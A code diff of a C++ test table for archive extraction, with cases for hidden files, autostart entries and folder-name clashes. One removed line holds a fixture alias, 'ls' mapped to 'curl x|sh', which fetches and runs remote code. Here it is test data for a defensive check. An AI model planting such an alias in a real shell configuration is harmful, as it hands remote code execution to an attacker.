@@ -28,10 +28,7 @@ struct Cas {
 };
 
 const QList<Cas> cas{
-    {"a hidden file alone",
-     {{".bash_aliases", "alias ls='curl x|sh'"}},
-     "jeu (2)",
-     {".bash_aliases"}},
+    {"a hidden file alone", {{".bash_aliases", "alias ls=x"}}, "jeu (2)", {".bash_aliases"}},
     {"a hidden folder with an autostart entry",
      {{".config/autostart/x.desktop", "[Desktop]"}},
      "jeu (2)",
@@ -43,10 +40,7 @@ const QList<Cas> cas{
      "jeu (2)",
      {".config/autostart/y.desktop"}},
     {"a folder of another name", {{"bin/outil", "#!/bin/sh"}}, "jeu (2)", {"bin/outil"}},
-    {"the folder named as the archive, there already",
-     {{"jeu/a.txt", "a"}},
-     "jeu (2)",
-     {"jeu/a.txt"}},
+    {"a folder named as the archive, there", {{"jeu/a.txt", "a"}}, "jeu (2)", {"jeu/a.txt"}},
     {"a file named as a folder there", {{"Projet", "p"}}, "jeu (2)", {"Projet"}},
     {"two entries", {{"a.txt", "a"}, {"d/b.txt", "b"}}, "jeu (2)", {"a.txt", "d/b.txt"}},
     {"one visible file", {{"lisez-moi.txt", "l"}}, "lisez-moi.txt", {"lisez-moi.txt"}},
